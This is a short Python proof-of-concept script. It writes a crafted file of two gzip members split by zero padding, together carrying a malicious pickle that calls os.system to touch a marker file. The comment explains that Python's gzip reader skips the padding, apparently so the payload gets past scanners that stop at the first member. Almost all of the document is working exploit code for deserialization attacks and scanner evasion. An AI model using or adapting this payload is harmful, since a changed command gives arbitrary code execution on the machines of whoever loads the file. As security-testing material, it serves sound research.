# gzip member with the first bytes of a pickle, zero padding, then a member with the rest:
# Python's gzip skips the zeros between members (_read_eof) and reads on.
import gzip, sys
a = gzip.compress(b"\x80\x02"); b = gzip.compress(b"cos\nsystem\n(Vtouch /tmp/r36b/PWNED_gzpad\ntR0N.")
open(sys.argv[1], "wb").write(a + b"\0" * 16 + b)
